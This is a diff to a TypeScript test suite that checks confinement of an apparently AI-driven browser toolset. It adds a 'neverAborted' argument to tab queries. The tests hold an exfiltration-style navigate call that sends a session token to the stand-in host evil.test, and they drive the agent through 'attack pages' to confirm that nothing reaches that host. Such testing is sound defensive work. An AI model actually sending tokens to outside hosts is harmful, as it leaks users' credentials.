@@ -13,6 +13,7 @@ import type { Logger } from '../../../src/telemetry/types.js';
 import { createActionSpace } from '../../../src/toolset/create.js';
 import type { ActionReport, ActionSpace } from '../../../src/toolset/types.js';
 import { fixtureUrl, newToken, startHarness, type Harness } from '../../fixtures/confinement/harness.js';
+import { neverAborted } from '../../support/env.js';
 
 const silent: Logger = { debug() {}, info() {}, warn() {}, error() {}, child: () => silent };
 
@@ -87,7 +88,7 @@ describe('confinement with the browser toolset', () => {
     confined('toolset-new-tab', async (a) => {
       expect((await a.call('new_tab')).ok).toBe(true);
       expect((await a.call('navigate', { url: `http://evil.test/tab?t=${a.token}` })).ok).toBe(false);
-      expect((await a.session.tabs()).map((t) => t.url)).toEqual(['about:blank', 'about:blank']);
+      expect((await a.session.tabs(neverAborted)).map((t) => t.url)).toEqual(['about:blank', 'about:blank']);
     }));
 
   it('clicks every link and button of the attack pages by reference without reaching evil', async () => {
@@ -101,7 +102,7 @@ describe('confinement with the browser toolset', () => {
           await a.call('switch_tab', { tab_id: 'tab_1' });
         }
         // Popups to evil are closed: only the agent's own tab is left.
-        expect((await a.session.tabs()).every((t) => !t.url.includes('evil.test'))).toBe(true);
+        expect((await a.session.tabs(neverAborted)).every((t) => !t.url.includes('evil.test'))).toBe(true);
       });
     }
   });
